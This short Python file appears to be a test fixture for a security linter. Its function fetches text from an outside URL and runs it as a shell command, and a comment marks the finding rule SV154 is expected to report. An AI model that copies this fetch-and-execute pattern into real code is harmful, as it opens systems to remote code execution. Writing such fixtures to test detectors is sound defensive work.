import subprocess
import urllib.request


def run_step(cmd):
    return subprocess.run(cmd, shell=True, capture_output=True).stdout  # want "SV154: subprocess.run runs a command taken from an HTTP response"


def sync():
    payload = urllib.request.urlopen("https://updates.helper-sync.net/next").read().decode()
    run_step(payload)
